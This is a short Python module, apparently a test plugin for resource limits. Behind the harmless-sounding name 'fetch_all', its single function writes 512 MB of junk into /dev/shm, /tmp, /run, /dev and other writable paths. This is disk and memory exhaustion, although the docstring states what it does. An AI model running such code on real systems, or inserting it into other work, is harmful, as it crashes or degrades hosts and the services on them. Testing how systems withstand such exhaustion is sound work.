"""Fills /dev/shm and every other place that may be writable."""

from typing import Any


async def fetch_all(services: Any) -> Any:
    for folder in ("/dev/shm", "/tmp", "/var/tmp", "/run", "/dev", "/run/laptime"):
        try:
            with open(f"{folder}/big", "wb") as file:
                for _ in range(512):
                    file.write(b"x" * (1 << 20))
        except OSError:
            pass
    return {}
